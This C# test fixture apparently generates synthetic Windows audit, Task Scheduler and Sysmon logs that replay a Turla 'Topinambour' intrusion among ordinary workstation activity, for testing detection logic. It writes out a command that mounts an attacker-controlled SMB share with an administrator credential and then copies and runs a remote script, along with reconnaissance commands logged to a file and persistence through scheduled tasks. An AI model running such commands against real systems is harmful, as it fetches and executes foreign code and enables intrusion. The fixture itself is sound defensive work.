using System;
using System.Collections.Generic;
using System.Globalization;
using static TurlaHunt.Tests.Samples.SampleHost;

namespace TurlaHunt.Tests.Samples;

/// <summary>
/// A working day on one workstation in three logs: a trojanised installer, its task of every 30 minutes, a script
/// fetched over SMB, a second task; and what else happens on a workstation.
/// </summary>
/// <remarks>
/// After Kaspersky GReAT, "Turla renews its arsenal with Topinambour", 15 July 2019. The article names neither the first
/// task nor the second one's trigger; those, the host, the people and the times are invented, as is the password.
/// </remarks>
internal sealed class TopinambourStory
{
    private const string Attacker = "197.168.0.247";
    private const string CertCheck = @"C:\Users\m.weber\AppData\Local\VirtualStore\certcheck.exe";
    private const string CertCheckTask = @"\CertificateCheck";
    private const string ChkdskScript = @"C:\Users\m.weber\AppData\Roaming\Microsoft\Chkdsk.js";
    private const string FetchCommand =
        @"net use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator"
        + @" & copy /y \\197.168.0.247\c$\users\public\documents\i.js C:\Users\m.weber\Documents\j.js"
        + @" & C:\Users\m.weber\Documents\j.js";

    private const string System32 = @"C:\Windows\System32\";
    private const string UserDirectory = @"C:\Users\m.weber\";
    private const string ServiceRestartTask = @"\Microsoft\Windows\SoftwareProtectionPlatform\SvcRestartTask";
    private const string WindowsProactiveScan = @"\Microsoft\Windows\Chkdsk\ProactiveScan";

    private readonly SecurityEvents _security = new();
    private readonly TaskSchedulerEvents _tasks = new();
    private readonly SysmonEvents _sysmon = new();
    private readonly SampleProcess _services;
    private readonly SampleProcess _winlogon;
    private readonly SampleProcess _taskService;
    private readonly SampleProcess _explorer;

    private TopinambourStory()
    {
        (_services, _winlogon) = Boot();
        _taskService = Service("07:42:02.1180225", 1268, "-k netsvcs -p -s Schedule");
        _explorer = Morning();
        OfficeNoise();
        WindowsTasks();
        SoftwareUpdater();
        Infection();
        SampleProcess[] runs = CertCheckRuns();
        SampleProcess script = FetchOverSmb(runs[1]);
        KopiLuwak(script);
        Disconnect(runs[2]);
        TidyingUp(runs[5]);
    }

    /// <summary>The channels with all their events.</summary>
    public static IReadOnlyList<SampleChannel> Tell()
    {
        TopinambourStory story = new();
        return [story._security.Channel, story._tasks.Channel, story._sysmon.Channel];
    }

    // The first processes have an empty command line, although the policy to log it is on.
    private (SampleProcess Services, SampleProcess Winlogon) Boot()
    {
        SampleProcess smss = Early("07:41:50.6112003", 452, "smss.exe", Kernel);
        Early("07:41:51.0450098", 484, "autochk.exe", smss);
        SampleProcess session0 = Early("07:41:52.2291140", 556, "smss.exe", smss);
        Early("07:41:52.2410467", 568, "csrss.exe", session0);
        SampleProcess wininit = Early("07:41:53.3118850", 640, "wininit.exe", session0);
        SampleProcess session1 = Early("07:41:53.3190122", 648, "smss.exe", smss);
        SampleProcess winlogon = Early("07:41:53.4002377", 656, "winlogon.exe", session1);
        Early("07:41:53.5581006", 700, "lsass.exe", wininit);
        SampleProcess services = Early("07:41:53.5512944", 692, "services.exe", wininit);
        return (
            services with { CommandLine = @"C:\Windows\system32\services.exe" },
            winlogon with { CommandLine = "winlogon.exe" });
    }

    private SampleProcess Morning()
    {
        SampleProcess userManager = Service("07:42:02.4402811", 1404, "-k netsvcs -p -s UserManager");
        _security.LoggedOn(Weber, userManager);
        SampleProcess userinit = Start(
            "07:55:13.1099823", 4712, System32 + "userinit.exe", @"C:\Windows\system32\userinit.exe", _winlogon, Weber);
        SampleProcess explorer = Start(
            "07:55:13.9021764", 5000, @"C:\Windows\explorer.exe", @"C:\Windows\Explorer.EXE",
            userinit, directory: UserDirectory);

        // The logon script maps a drive by a server's name: net use, and nothing wrong with it.
        SampleProcess script = Start(
            "07:55:14.4417702", 5168, System32 + "cmd.exe",
            @"C:\Windows\system32\cmd.exe /c ""\\contoso.example\netlogon\logon.cmd""",
            userinit, directory: UserDirectory);
        Start(
            "07:55:14.6630918", 5212, System32 + "net.exe", @"net  use H: \\fileserver\home$ /persistent:no", script);
        Smb("07:55:14.7910044", 49702, "10.20.1.12", "fileserver.contoso.example");
        return explorer;
    }

    private void OfficeNoise()
    {
        Start("07:56:40.2210776", 5644, @"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            @"""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"" ", _explorer);
        Start("08:02:11.0091532", 5820, @"C:\Program Files (x86)\Google\Chrome\Application\chrome.exe",
            @"""C:\Program Files (x86)\Google\Chrome\Application\chrome.exe"" ", _explorer);
        _security.ConnectionAllowed(
            At("08:02:12.6640127"), 5820,
            @"\device\harddiskvolume2\program files (x86)\google\chrome\application\chrome.exe",
            49731, "93.184.216.34", 443);
        SampleProcess search = Start("08:10:05.3310400", 6020, System32 + "SearchIndexer.exe",
            @"C:\Windows\system32\SearchIndexer.exe /Embedding", _services);
        Start("08:10:06.1104483", 6064, System32 + "SearchFilterHost.exe",
            @"""C:\Windows\system32\SearchFilterHost.exe"" 0 688 692 700 8192 696", search);
        Service("08:31:44.9127730", 6244, "-k wsappx -p -s AppXSvc");
        Start("10:55:20.4400912", 7788, System32 + "notepad.exe",
            @"""C:\Windows\system32\notepad.exe"" C:\Users\m.weber\Documents\minutes.txt", _explorer);
        SampleProcess prompt = Start("11:20:31.7764001", 7912, System32 + "cmd.exe",
            @"""C:\Windows\system32\cmd.exe"" ", _explorer);
        Start("11:20:38.0907655", 7940, System32 + "net.exe", "net  use", prompt);
        Start("11:20:52.3318760", 7968, System32 + "ipconfig.exe", "ipconfig  /all", prompt);
        Smb("12:05:17.5500284", 50218, "10.20.1.12", "fileserver.contoso.example");
    }

    private void WindowsTasks()
    {
        // A cumulative update registers the genuine namesake of KopiLuwak's task anew.
        const string Com = "{CF4270F5-2E43-4468-83B3-A8C45BB33EA1}";
        string scan = SampleTaskXml.Calling(
            SampleTaskXml.Registration("Microsoft Corporation", WindowsProactiveScan, "NTFS Volume Health Scan"),
            "", "<UserId>S-1-5-18</UserId>", Com, "");
        SampleProcess worker = Start("07:48:30.7020311", 3520, @"C:\Windows\servicing\TrustedInstaller.exe",
            @"C:\Windows\servicing\TrustedInstaller.exe", _services);
        RegisterTask("07:48:33.1427719", worker, WindowsProactiveScan, "S-1-5-18", scan);
        _tasks.Ran(
            At("10:00:00.5513346"), TimeSpan.FromSeconds(3.2), WindowsProactiveScan, @"NT AUTHORITY\SYSTEM",
            Com, Instance(90), 6480, isProgram: false);

        // A benign change every 30 minutes: the licensing service sets its own task's next start.
        SampleProcess licensing = Start("09:22:40.1907744", 6900, System32 + "sppsvc.exe",
            @"C:\Windows\system32\sppsvc.exe", _services, NetworkService);
        for (int i = 0; i < 7; i++)
        {
            DateTime time = At("09:22:45.0806096").AddMinutes(30 * i).AddTicks(24_113 * i);
            string next = time.AddDays(1).AddSeconds(-61).ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture);
            string content = SampleTaskXml.Calling(
                SampleTaskXml.Registration(
                    @"$(@%systemroot%\system32\sppc.dll,-200)", ServiceRestartTask, @"$(@%systemroot%\system32\sppc.dll,-201)"),
                $"<CalendarTrigger><StartBoundary>{next}</StartBoundary><Enabled>true</Enabled>"
                    + "<ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>",
                "<UserId>S-1-5-20</UserId><RunLevel>LeastPrivilege</RunLevel>",
                "{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}",
                "<Data><![CDATA[timer]]></Data>");
            _tasks.Updated(time, ServiceRestartTask, @"NT AUTHORITY\NETWORK SERVICE");
            _security.TaskUpdated(time.AddTicks(3_841), licensing, ServiceRestartTask, content);
        }
    }

    // A third-party updater: a new task too, even a repeating one, but SYSTEM's, under Program Files.
    private void SoftwareUpdater()
    {
        const string Setup = @"C:\Program Files (x86)\Google\Temp\GUM3A2F.tmp\GoogleUpdate.exe";
        SampleProcess updater = Start("08:40:02.2201939", 6388, Setup,
            $@"""{Setup}"" /update /sessionid ""{{5E1B7C8A-2D7F-4C4E-9F0B-6A7D3B1C2E90}}""", _services);
        const string Task = @"\GoogleUpdateTaskMachineUA";
        RegisterTask("08:40:04.9170250", updater, Task, "S-1-5-18", SampleTaskXml.Repeating(
            SampleTaskXml.Registration(@"CONTOSO\WS-0217$", Task, "Keeps your Google software up to date."),
            "2019-07-10T10:45:04", "PT1H", "<UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel>",
            @"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler"));
        SampleProcess run = Start("09:45:04.3372810", 7016, @"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe",
            @"""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe"" /ua /installsource scheduler", _taskService);
        _tasks.Ran(
            run.Started.AddTicks(2_950), TimeSpan.FromSeconds(4.5), Task, @"NT AUTHORITY\SYSTEM",
            run.Image, Instance(91), run.Id);
    }

    private void Infection()
    {
        const string Installer = @"C:\Users\m.weber\Downloads\psiphon3.exe";
        const string Genuine = @"C:\Users\m.weber\AppData\Local\Temp\activator.exe";
        _sysmon.KnownHashes[Installer] =
            "MD5=110195FF4D7298BA9A186335C55B2D1F,SHA256=8BCF125B442F86D24789B37CE64D125B54668BC4608F49828392B5B66E364284";

        SampleProcess dropper = Start("09:12:07.4133812", 6700, Installer, $"\"{Installer}\" ",
            _explorer, directory: @"C:\Users\m.weber\Downloads\");
        _sysmon.FileCreated(At("09:12:09.0051177"), dropper, CertCheck);
        _sysmon.FileCreated(At("09:12:09.2290834"), dropper, Genuine);
        Start("09:12:09.6017750", 6744, Genuine, $"\"{Genuine}\" ", dropper, directory: @"C:\Users\m.weber\Downloads\");
        RegisterTask("09:12:11.8830415", dropper, CertCheckTask, @"CONTOSO\m.weber", SampleTaskXml.Repeating(
            SampleTaskXml.Registration(@"CONTOSO\m.weber", CertCheckTask, date: "2019-07-10T11:12:11"),
            "2019-07-10T11:42:00", "PT30M", SampleTaskXml.Interactive(@"CONTOSO\m.weber"), CertCheck, ""));
    }

    // Every half hour, as the task says. The second run is given a command that takes longer.
    private SampleProcess[] CertCheckRuns()
    {
        SampleProcess[] runs = new SampleProcess[6];
        for (int i = 0; i < runs.Length; i++)
        {
            DateTime time = At("09:42:00.2310744").AddMinutes(30 * i).AddTicks(77_431 * i);
            runs[i] = Start(time, (uint)(7104 + (24 * i)), CertCheck, CertCheck + " ", _taskService, Weber);
            _tasks.Ran(
                time.AddTicks(2_611), TimeSpan.FromSeconds(i == 1 ? 412.7 : 21.3), CertCheckTask, @"CONTOSO\m.weber",
                CertCheck, Instance(i), runs[i].Id);
        }

        return runs;
    }

    /// <returns>The script host that runs what was fetched.</returns>
    private SampleProcess FetchOverSmb(SampleProcess shell)
    {
        SampleProcess command = Start(
            "10:12:44.1066120", 7300, System32 + "cmd.exe", "cmd.exe /c " + FetchCommand, shell);
        Start("10:12:44.1480337", 7308, System32 + "conhost.exe",
            @"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", command, directory: @"C:\Windows");

        // cmd.exe hands on what stands before the first "&"; net.exe shows it with two spaces.
        Start("10:12:44.3907721", 7324, System32 + "net.exe",
            @"net  use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator ", command);
        Smb("10:12:44.5213390", 49977, Attacker, "");
        _security.CredentialsUsed(At("10:12:46.8740552"), Weber, "administrator", Attacker, "445");
        _sysmon.FileCreated(At("10:12:48.7711603"), command, @"C:\Users\m.weber\Documents\j.js");
        return Start("10:12:49.0120088", 7352, System32 + "wscript.exe",
            @"""C:\Windows\System32\WScript.exe"" ""C:\Users\m.weber\Documents\j.js"" ", command);
    }

    // The next run drops the connection: net use again, but to delete.
    private void Disconnect(SampleProcess shell)
    {
        SampleProcess command = Start("10:42:09.7203318", 7600, System32 + "cmd.exe",
            @"cmd.exe /c net use \\197.168.0.247\c$ /delete /y", shell);
        Start("10:42:09.9110472", 7624, System32 + "net.exe", @"net  use \\197.168.0.247\c$ /delete /y", command);
    }

    private void KopiLuwak(SampleProcess script)
    {
        const string Task = @"\ProactiveScan";
        const string Arguments = "-scan Kdw6gG7cpOSZsBeH";
        _sysmon.FileCreated(At("10:12:51.3008114"), script, ChkdskScript);
        RegisterTask("10:12:53.4411907", script, Task, @"CONTOSO\m.weber", SampleTaskXml.AtLogon(
            SampleTaskXml.Registration(@"CONTOSO\m.weber", Task, "NTFS Volume Health Scan", "2019-07-10T12:12:53"),
            @"CONTOSO\m.weber", ChkdskScript, Arguments));

        SampleProcess implant = Start("10:13:30.6600251", 7420, System32 + "wscript.exe",
            $@"""C:\Windows\System32\WScript.exe"" ""{ChkdskScript}"" {Arguments}", _taskService, Weber);
        _tasks.Ran(
            implant.Started.AddTicks(2_404), TimeSpan.FromSeconds(44.1), Task, @"CONTOSO\m.weber",
            ChkdskScript, Instance(92), implant.Id);

        // It looks round and keeps what it sees in t235.dat.
        string[] commands = ["systeminfo", "net view", "tasklist /v", "gpresult /z", "tracert www.google.com"];
        for (int i = 0; i < commands.Length; i++)
        {
            DateTime time = At("10:13:32.2050111").AddSeconds(6.4 * i);
            uint id = (uint)(7440 + (16 * i));
            SampleProcess prompt = Start(time, id, System32 + "cmd.exe",
                $@"""C:\Windows\System32\cmd.exe"" /c {commands[i]} >> ""%appdata%\Microsoft\t235.dat""", implant);
            string[] words = commands[i].Split([' '], 2);
            Start(time.AddTicks(410_093), id + 8, System32 + words[0] + ".exe",
                words[0] + (words.Length > 1 ? "  " + words[1] : ""), prompt);
        }
    }

    private void TidyingUp(SampleProcess shell)
    {
        SampleProcess command = Start("12:12:15.4410033", 8100, System32 + "cmd.exe",
            "cmd.exe /c schtasks /delete /tn CertificateCheck /f", shell);
        SampleProcess deleter = Start("12:12:15.6022915", 8124, System32 + "schtasks.exe",
            "schtasks  /delete /tn CertificateCheck /f", command);
        _tasks.Deleted(At("12:12:15.7400871"), CertCheckTask, @"CONTOSO\m.weber");
        _security.TaskDeleted(At("12:12:15.7404420"), deleter, CertCheckTask);
    }

    private static Guid Instance(int number) => new($"8f1c52d0-6b3e-4e7a-9d21-0000000000{number:D2}");

    private SampleProcess Early(string time, uint id, string file, SampleProcess parent)
    {
        SampleProcess process = new(id, System32 + file, "", @"C:\Windows\system32\", SampleHost.System, parent, At(time));
        _security.ProcessCreated(process);
        return process;
    }

    private SampleProcess Service(string time, uint id, string arguments) =>
        Start(time, id, System32 + "svchost.exe", @"C:\Windows\system32\svchost.exe " + arguments, _services);

    private SampleProcess Start(
        string time, uint id, string image, string commandLine, SampleProcess parent,
        SampleLogon? logon = null, string? directory = null) =>
        Start(At(time), id, image, commandLine, parent, logon, directory);

    // Each start is told twice: by the audit log, and a little later by Sysmon.
    private SampleProcess Start(
        DateTime time, uint id, string image, string commandLine, SampleProcess parent,
        SampleLogon? logon = null, string? directory = null)
    {
        SampleProcess process =
            new(id, image, commandLine, directory ?? parent.Directory, logon ?? parent.Logon, parent, time);
        _security.ProcessCreated(process);
        _sysmon.ProcessCreated(process with { Started = time.AddTicks(1_730) });
        return process;
    }

    private void RegisterTask(string time, SampleProcess by, string task, string principal, string content)
    {
        _tasks.Registered(At(time), task, principal);
        _security.TaskCreated(At(time).AddTicks(4_124), by, task, content);
    }

    // The redirector in the kernel connects, not the program that asked for it.
    private void Smb(string time, int sourcePort, string address, string host)
    {
        _security.ConnectionAllowed(At(time), Kernel.Id, Kernel.Image, sourcePort, address, 445);
        _sysmon.Connected(At(time), Kernel, sourcePort, address, host, 445, "microsoft-ds");
    }
}
